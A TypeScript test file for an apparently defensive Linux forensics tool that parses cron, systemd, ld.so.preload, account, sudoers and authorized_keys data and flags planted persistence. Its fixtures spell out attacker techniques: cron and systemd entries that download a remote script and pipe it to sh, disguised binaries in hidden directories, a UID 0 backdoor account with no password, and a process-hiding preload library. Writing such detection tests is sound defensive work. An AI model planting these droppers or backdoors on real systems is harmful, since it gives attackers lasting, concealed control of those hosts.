/**
 * Persistence and account facts from recorded output (test/fixtures/facts/{cron,systemd,preload,
 * accounts,authorized-keys}): the planted entries are found and high, the stock Debian ones are not.
 */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  accountFindings,
  authorizedKeyFindings,
  cronFindings,
  keyFingerprint,
  parseAccounts,
  parseAuthorizedKeys,
  parseCron,
  parseGroup,
  parsePasswd,
  parsePreload,
  parseSudoers,
  parseSystemd,
  preloadFindings,
  sections,
  sudoUsers,
  systemdFindings,
  type Accounts,
} from '../../src/facts/index.js';

const fx = (p: string): string => readFileSync(join(import.meta.dirname, '../fixtures/facts', p), 'utf8');

describe('facts: `==> path <==` sections', () => {
  it('splits files, reads symlink headers, drops text before the first header', () => {
    const s = sections('noise\n==> /a <==\nx\n\n==> /b -> ../c <==\n==> /d <==\ny');
    assert.deepEqual(s, [
      { path: '/a', lines: ['x', ''] },
      { path: '/b', target: '../c', lines: [] },
      { path: '/d', lines: ['y'] },
    ]);
  });
});

describe('facts: cron', () => {
  const entries = parseCron(fx('cron/debian12-planted.txt'));

  it('reads system crontabs (user field), user spools, @reboot and cron.<period> scripts; skips comments and variables', () => {
    assert.deepEqual(
      entries.find((e) => e.file === '/etc/cron.d/apache2-update'),
      {
        file: '/etc/cron.d/apache2-update',
        line: 2,
        schedule: '*/10 * * * *',
        user: 'root',
        source: 'crontab',
        command: '(curl -fsSL http://203.0.113.66/a.sh || wget -q -O- http://203.0.113.66/a.sh) | sh',
      },
    );
    const root = entries.filter((e) => e.file === '/var/spool/cron/crontabs/root');
    assert.deepEqual(
      root.map((e) => [e.schedule, e.user, e.command]),
      [
        ['@reboot', 'root', '/dev/shm/kworkerds >/dev/null 2>&1'],
        ['*/5 * * * *', 'root', '/var/tmp/.../sshd -q'],
        ['0 3 * * *', 'root', '/usr/local/bin/backup.sh'],
      ],
    );
    assert.equal(entries.find((e) => e.file === '/etc/crontab')?.schedule, '17 * * * *');
    assert.ok(!entries.some((e) => /^(?:SHELL|PATH|MAILTO)=/.test(e.command)));
    assert.equal(entries.find((e) => e.file === '/var/spool/cron/crontabs/alice')?.user, 'alice');
  });

  it('makes the droppers high and the stock entries and scripts info', () => {
    const f = cronFindings('web01', entries);
    const high = f.filter((x) => x.severity === 'high').map((x) => x.detail.file + ' ' + x.detail.command);
    assert.deepEqual(high, [
      '/etc/cron.d/apache2-update (curl -fsSL http://203.0.113.66/a.sh || wget -q -O- http://203.0.113.66/a.sh) | sh',
      '/var/spool/cron/crontabs/root /dev/shm/kworkerds >/dev/null 2>&1',
      '/var/spool/cron/crontabs/root /var/tmp/.../sshd -q',
      '/etc/cron.daily/0logrotate wget -q -O - http://198.51.100.23/x | bash >/dev/null 2>&1',
    ]);
    assert.deepEqual(
      f.filter((x) => x.detail.file === '/etc/cron.daily/man-db').map((x) => x.severity),
      ['info'],
      'one finding per script',
    );
    assert.ok(f.every((x) => x.kind === 'persistence.cron'));
  });

  it('reads RHEL spools and ignores what is not a schedule', () => {
    const e = parseCron(
      '==> /var/spool/cron/root <==\n* * * * * /tmp/.x/run\nnot a cron line\n==> /etc/cron.d/x <==\nMAILTO = root\n@daily root /usr/bin/true',
    );
    assert.deepEqual(
      e.map((x) => [x.user, x.schedule, x.command]),
      [
        ['root', '* * * * *', '/tmp/.x/run'],
        ['root', '@daily', '/usr/bin/true'],
      ],
    );
  });
});

describe('facts: systemd', () => {
  const units = parseSystemd(fx('systemd/debian12-planted.txt'));

  it('reads units, drop-ins and links', () => {
    assert.deepEqual(
      units.find((u) => u.unit === 'systemd-network-helper.service' && u.type === 'unit'),
      {
        path: '/etc/systemd/system/systemd-network-helper.service',
        unit: 'systemd-network-helper.service',
        type: 'unit',
        scope: 'system',
        exec: ['/var/tmp/.../sshd -d'],
        wantedBy: ['multi-user.target'],
        description: 'Network helper',
      },
    );
    const dropIn = units.find((u) => u.type === 'drop-in');
    assert.deepEqual(
      [dropIn?.unit, dropIn?.exec],
      ['ssh.service', ["/bin/sh -c 'curl -s http://203.0.113.66/k | sh'"]],
    );
    assert.equal(units.filter((u) => u.type === 'link').length, 26);
  });

  it('reports what is not packaged: planted units high, an enabled admin timer medium, packaged links nothing', () => {
    const f = systemdFindings('web01', units);
    assert.deepEqual(
      f.map((x) => [x.detail.path, x.severity]),
      [
        ['/etc/systemd/system/backup.timer', 'medium'],
        ['/etc/systemd/system/backup.service', 'low'],
        ['/etc/systemd/system/ssh.service.d/override.conf', 'high'],
        ['/etc/systemd/system/systemd-network-helper.service', 'high'],
        ['/root/.config/systemd/user/dbus-session.service', 'high'],
      ],
    );
    assert.deepEqual(f[3]?.detail.enabledBy, [
      '/etc/systemd/system/multi-user.target.wants/systemd-network-helper.service',
    ]);
    assert.deepEqual(
      f[4]?.detail.enabledBy,
      ['/root/.config/systemd/user/default.target.wants/dbus-session.service'],
      'relative link resolved',
    );
    assert.equal(f[4]?.detail.scope, 'user');
  });

  it('reports a link to a unit outside the packaged dirs', () => {
    const f = systemdFindings(
      'h',
      parseSystemd(
        '==> /etc/systemd/system/multi-user.target.wants/x.service -> /tmp/x.service <==\n==> /etc/systemd/system/y.service -> /dev/null <==',
      ),
    );
    assert.deepEqual(
      f.map((x) => [x.detail.path, x.severity]),
      [['/etc/systemd/system/multi-user.target.wants/x.service', 'high']],
    );
  });
});

describe('facts: ld.so.preload', () => {
  it('makes every entry a high finding, critical from a scratch dir', () => {
    assert.deepEqual(
      preloadFindings('h', parsePreload(fx('preload/libprocesshider.txt'))).map((x) => [
        x.kind,
        x.severity,
        x.detail.library,
      ]),
      [['persistence.preload', 'high', '/usr/local/lib/libprocesshider.so']],
    );
    const two = parsePreload(fx('preload/two-entries.txt'));
    assert.deepEqual(
      two.map((e) => [e.line, e.library]),
      [
        [1, '/lib/x86_64-linux-gnu/libsnoopy.so'],
        [3, '/usr/lib/x86_64-linux-gnu/libesets_pac.so'],
        [3, '/dev/shm/.x/libc.so.6'],
      ],
    );
    assert.equal(preloadFindings('h', two)[2]?.severity, 'critical');
    assert.deepEqual(
      parsePreload("ERROR: ld.so: object '/x.so' from /etc/ld.so.preload cannot be preloaded: ignored.\n"),
      [],
    );
    assert.deepEqual(parsePreload(''), []);
  });
});

describe('facts: accounts and sudo', () => {
  const accounts = parseAccounts(fx('accounts/debian12-backdoored.txt'));

  it('reads passwd, group and every sudoers file', () => {
    assert.equal(accounts.passwd.length, 25);
    assert.deepEqual(
      accounts.passwd.find((p) => p.user === 'toor'),
      { user: 'toor', uid: 0, gid: 0, gecos: 'root', home: '/root', shell: '/bin/bash', emptyPassword: true },
    );
    assert.deepEqual(accounts.groups.find((g) => g.group === 'ops')?.members, ['deploy-backup', 'alice']);
    assert.deepEqual(accounts.sudoers.userAliases, { DEPLOYERS: ['deploy-backup', '%ops'] });
    const deploy = accounts.sudoers.rules.find((r) => r.file === '/etc/sudoers.d/90-deploy');
    assert.deepEqual(
      [deploy?.line, deploy?.who, deploy?.runas, deploy?.nopasswd, deploy?.commands],
      [3, ['DEPLOYERS'], '(root)', true, '/usr/bin/systemctl restart nginx, /usr/bin/rsync'],
    );
    assert.equal(
      accounts.sudoers.rules.length,
      4,
      'root, %sudo, DEPLOYERS, www-data; Defaults, comments and @includedir are not rules',
    );
  });

  it('finds the UID 0 backdoor and who can sudo, and how', () => {
    const f = accountFindings('web01', accounts);
    assert.deepEqual(
      f.map((x) => [x.kind, x.severity, x.detail.user]),
      [
        ['account.uid0', 'critical', 'toor'],
        ['account.sudo', 'medium', 'alice'],
        ['account.sudo', 'medium', 'deploy-backup'],
        ['account.sudo', 'medium', 'www-data'],
      ],
    );
    assert.deepEqual(f[1]?.detail.via, [
      'group sudo',
      '/etc/sudoers:50 (%sudo)',
      '/etc/sudoers.d/90-deploy:3 NOPASSWD (DEPLOYERS)',
    ]);
    assert.equal(f[0]?.detail.emptyPassword, true);
  });

  it('expands #uid, %#gid, primary groups, wheel and ALL', () => {
    const a: Accounts = {
      passwd: parsePasswd(
        'root:x:0:0::/root:/bin/sh\nbob:x:1001:10::/home/bob:/bin/sh\neve:x:1002:1002::/home/eve:/bin/sh\nbad line\n',
      ),
      groups: parseGroup('wheel:x:10:\nstaff:x:50:eve\n'),
      sudoers: parseSudoers(
        '#1002 ALL=(ALL) ALL\n%#50 ALL = (ALL) NOPASSWD: /bin/ls\n#includedir /etc/sudoers.d\nALL ALL=(ALL) NOPASSWD: ALL\n',
      ),
    };
    const users = sudoUsers(a);
    assert.deepEqual(users.get('bob')?.via, ['group wheel'], 'bob is in wheel by his primary group');
    assert.deepEqual(users.get('eve')?.via, ['/etc/sudoers:1 (#1002)', '/etc/sudoers:2 NOPASSWD (%#50)']);
    assert.equal(users.get('ALL')?.everyone, true);
    assert.equal(accountFindings('h', a).find((x) => x.detail.user === 'ALL')?.severity, 'high');
  });
});

describe('facts: authorized_keys', () => {
  const keys = parseAuthorizedKeys(fx('authorized-keys/debian12-homes.txt'));
  const passwd = parseAccounts(fx('accounts/debian12-backdoored.txt')).passwd;

  it('parses options, types, comments and fingerprints like ssh-keygen -l', () => {
    assert.equal(keys.length, 7);
    const ops = keys.find((k) => k.file === '/root/.ssh/authorized_keys' && k.type === 'ssh-rsa');
    assert.deepEqual(
      [ops?.options, ops?.comment, ops?.fingerprint, ops?.valid],
      [
        'no-port-forwarding,from="192.0.2.0/24"',
        'ops@bastion.example.org',
        'SHA256:3yyMdZ0KezIxOFsy8Aw48aBsXnzTEQfyAoOpnClqd+w',
        true,
      ],
    );
    // the fingerprint sshd logged for the attacker's login (auth-log fixture) is the one we compute
    const attackerFp = /Accepted publickey for root .* ED25519 (SHA256:\S+)/.exec(
      fx('auth-log/debian12-rsyslog-auth.log'),
    )?.[1];
    assert.equal(keys.find((k) => k.comment === 'root@kali')?.fingerprint, attackerFp);
    assert.equal(
      keys.find((k) => k.type === 'ecdsa-sha2-nistp256')?.fingerprint,
      'SHA256:ahAQnKjeLmc7FrQ4HX1fg1Qll7nwJkolHxyTXt4cQ98',
    );
    assert.equal(keys.find((k) => k.comment === 'deploy@old')?.valid, false, 'a truncated key');
    assert.equal(
      keys.find((k) => k.options.startsWith('command='))?.options,
      'command="/usr/local/bin/backup-only",no-pty,no-port-forwarding',
    );
  });

  it('names the account by its home and marks keys found in several accounts', () => {
    const f = authorizedKeyFindings('web01', keys, { passwd });
    assert.deepEqual(
      f.map((x) => [x.detail.user, x.severity]),
      [
        ['alice', 'info'],
        ['alice', 'info'],
        ['alice', 'info'],
        ['deploy-backup', 'info'],
        ['deploy-backup', 'info'],
        ['root', 'low'],
        ['root', 'low'],
      ],
    );
    assert.deepEqual(f.find((x) => x.detail.comment === 'root@kali' && x.detail.user === 'alice')?.detail.alsoIn, [
      '/root/.ssh/authorized_keys',
    ]);
  });

  it('handles quoted spaces in options and rejects non-keys', () => {
    const k = parseAuthorizedKeys(
      '==> /home/x/.ssh/authorized_keys <==\ncommand="echo \\"a b\\"; ls",no-pty ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJtXrPx8lsbxfCC1G7treBC5RPpJ/0nqpgTOb2vD6sIe c d\nnot a key\nssh-rsa',
    );
    assert.deepEqual(
      k.map((x) => [x.user, x.options, x.comment, x.valid]),
      [['x', 'command="echo \\"a b\\"; ls",no-pty', 'c d', true]],
    );
    assert.deepEqual(keyFingerprint('ssh-rsa', '!!!'), { valid: false });
  });
});
